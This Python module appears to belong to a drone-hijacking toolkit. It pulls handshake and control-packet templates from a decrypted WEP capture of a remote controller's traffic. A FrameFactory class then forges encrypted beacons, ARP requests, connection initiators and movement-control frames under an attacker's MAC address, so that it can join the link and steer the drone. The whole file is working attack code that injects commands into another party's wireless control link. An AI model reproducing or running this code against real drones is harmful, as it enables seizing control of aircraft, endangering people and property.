"""Templates lifted from a decrypted capture and the forged-frame factory."""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass
from typing import Iterable, Optional, Union

from ..captureio import CaptureRecord
from ..framing import (
    DEFAULT_CRC,
    CommandId,
    CrcConfig,
    FramingError,
    MovementField,
    decode_control,
    decode_duml,
    encode_control,
    movement_for,
)
from ..linkproto import dot11
from ..linkproto.config import LinkConfig, iv_for, reference_constants
from ..wepcrypt.wep import WepKey, wep_encrypt


class TemplateMissing(LookupError):
    pass


@dataclass(frozen=True)
class ForgedFrames:
    """The three packet formats needed to join the link, plus the control layout."""

    beacon: bytes  # a captured controller beacon
    arp_request: bytes  # decrypted ARP request plaintext (LLC + ARP)
    initiator: bytes  # the captured 0x40 UDP payload, reused verbatim
    control_prefix: bytes
    control_unknown: bytes
    drone_ip: bytes
    rc_ip: bytes
    sport: int = dot11.RC_UDP_PORT
    dport: int = dot11.DRONE_UDP_PORT
    crc: CrcConfig = DEFAULT_CRC

    def __post_init__(self):
        if len(self.initiator) != dot11.INITIATOR_LENGTH:
            raise ValueError("connection initiator must be 0x40 bytes")
        if len(self.control_prefix) != 46 or len(self.control_unknown) != 6:
            raise ValueError("control template must be 46 + 6 bytes")

    @property
    def control_length(self) -> int:
        return len(self.control_prefix) + 6 + len(self.control_unknown) + 2

    @classmethod
    def reference(cls, cfg: LinkConfig) -> "ForgedFrames":
        """Templates equal to what a capture of the default controller would yield."""
        consts = reference_constants()
        rc_mac = cfg.rc_mac_bytes
        return cls(
            beacon=dot11.build_beacon(rc_mac, rc_mac, cfg.channel, timestamp_us=0, role=dot11.ROLE_RC),
            arp_request=dot11.build_arp(dot11.ARP_REQUEST, rc_mac, cfg.rc_ip_bytes, bytes(6), cfg.drone_ip_bytes),
            initiator=consts.connection_initiator,
            control_prefix=consts.control_prefix,
            control_unknown=consts.control_unknown,
            drone_ip=cfg.drone_ip_bytes,
            rc_ip=cfg.rc_ip_bytes,
            crc=cfg.crc,
        )

    def to_json(self) -> dict:
        return {
            "beacon": self.beacon.hex(),
            "arp_request": self.arp_request.hex(),
            "initiator": self.initiator.hex(),
            "control_prefix": self.control_prefix.hex(),
            "control_unknown": self.control_unknown.hex(),
            "drone_ip": ipaddress.IPv4Address(self.drone_ip).compressed,
            "rc_ip": ipaddress.IPv4Address(self.rc_ip).compressed,
            "sport": self.sport,
            "dport": self.dport,
            "crc": {"poly": self.crc.poly, "seed": self.crc.seed},
        }

    @classmethod
    def from_json(cls, doc: dict) -> "ForgedFrames":
        return cls(
            beacon=bytes.fromhex(doc["beacon"]),
            arp_request=bytes.fromhex(doc["arp_request"]),
            initiator=bytes.fromhex(doc["initiator"]),
            control_prefix=bytes.fromhex(doc["control_prefix"]),
            control_unknown=bytes.fromhex(doc["control_unknown"]),
            drone_ip=dot11.ip_to_bytes(doc["drone_ip"]),
            rc_ip=dot11.ip_to_bytes(doc["rc_ip"]),
            sport=int(doc.get("sport", dot11.RC_UDP_PORT)),
            dport=int(doc.get("dport", dot11.DRONE_UDP_PORT)),
            crc=CrcConfig(**doc["crc"]) if "crc" in doc else DEFAULT_CRC,
        )


def extract_templates(decrypted: Iterable[CaptureRecord], crc: CrcConfig = DEFAULT_CRC) -> ForgedFrames:
    """Pull the handshake and control templates out of a decrypted capture."""
    beacon = arp = initiator = control = None
    addressing = None
    for rec in decrypted:
        try:
            frame = dot11.parse_dot11(rec.frame)
        except dot11.MalformedFrame:
            continue
        if frame.is_beacon:
            if beacon is None and dot11.beacon_role(frame) == dot11.ROLE_RC:
                beacon = rec.frame
            continue
        if not frame.is_data or frame.protected:
            continue
        parsed = dot11.parse_plaintext(frame.body)
        if isinstance(parsed, dot11.ArpPacket):
            if arp is None and parsed.op == dot11.ARP_REQUEST:
                arp = frame.body
        elif isinstance(parsed, dot11.UdpDatagram):
            if len(parsed.payload) == dot11.INITIATOR_LENGTH and initiator is None:
                try:
                    decode_duml(parsed.payload, crc)
                except FramingError:
                    continue
                initiator = parsed.payload
                addressing = parsed
            elif len(parsed.payload) == dot11.CONTROL_LENGTH and control is None:
                try:
                    control = decode_control(parsed.payload, crc)
                except FramingError:
                    continue
                addressing = addressing or parsed
    missing = [name for name, v in (("beacon", beacon), ("arp", arp), ("initiator", initiator), ("control", control)) if v is None]
    if missing:
        raise TemplateMissing(f"capture lacks {', '.join(missing)}")
    return ForgedFrames(
        beacon=beacon,
        arp_request=arp,
        initiator=initiator,
        control_prefix=control.prefix,
        control_unknown=control.unknown,
        drone_ip=addressing.dst_ip,
        rc_ip=addressing.src_ip,
        sport=addressing.sport,
        dport=addressing.dport,
        crc=crc,
    )


class FrameFactory:
    """Produces encrypted frames on demand, each with a fresh IV."""

    def __init__(
        self,
        key: WepKey,
        templates: ForgedFrames,
        attacker_mac: bytes,
        *,
        attacker_ip: Optional[bytes] = None,
        iv_salt: int = 0x5EED,
        channel: int = 149,
    ) -> None:
        self.key = key
        self.t = templates
        self.mac = bytes(attacker_mac)
        self.ip = attacker_ip or templates.rc_ip
        self.iv_salt = iv_salt
        self.channel = channel
        self.drone_mac: Optional[bytes] = None
        self._iv_counter = 0
        self._seq = 0
        self._ip_id = 0

    def _next_seq(self) -> int:
        self._seq = (self._seq + 1) & 0xFFF
        return self._seq

    def next_iv(self) -> bytes:
        iv = iv_for(self.iv_salt, self._iv_counter)
        self._iv_counter += 1
        return iv

    def _seal(self, dst: bytes, plaintext: bytes) -> bytes:
        body = wep_encrypt(self.key, self.next_iv(), plaintext).to_bytes()
        bssid = self.drone_mac or self.mac
        return dot11.build_data(self.mac, dst, bssid, body, seq=self._next_seq())

    def beacon(self, now_us: int) -> bytes:
        tpl = dot11.parse_dot11(self.t.beacon)
        body = bytearray(tpl.body)
        body[0:8] = (now_us & (2**64 - 1)).to_bytes(8, "little")
        bssid = self.drone_mac or self.mac
        head = self.t.beacon[:4] + tpl.addr1 + self.mac + bssid + ((self._next_seq() << 4).to_bytes(2, "little"))
        return head + bytes(body)

    def arp_request(self) -> bytes:
        plain = bytearray(self.t.arp_request)
        plain[16:22] = self.mac  # sender hardware address
        plain[22:26] = self.ip  # sender protocol address
        return self._seal(dot11.BROADCAST, bytes(plain))

    def _udp(self, payload: bytes) -> bytes:
        if self.drone_mac is None:
            raise RuntimeError("drone MAC not learned yet")
        self._ip_id = (self._ip_id + 1) & 0xFFFF
        plain = dot11.build_udp(self.ip, self.t.drone_ip, self.t.sport, self.t.dport, payload, ip_id=self._ip_id)
        return self._seal(self.drone_mac, plain)

    def initiator(self) -> bytes:
        return self._udp(self.t.initiator)

    def control_payload(self, movement: Union[CommandId, MovementField]) -> bytes:
        if isinstance(movement, CommandId):
            movement = movement_for(movement)
        return encode_control(movement, self.t.control_prefix, self.t.control_unknown, self.t.crc)

    def control(self, movement: Union[CommandId, MovementField]) -> bytes:
        return self._udp(self.control_payload(movement))


def forge_session(
    key: WepKey, templates: ForgedFrames, attacker_mac: bytes, **kwargs
) -> FrameFactory:
    return FrameFactory(key, templates, attacker_mac, **kwargs)
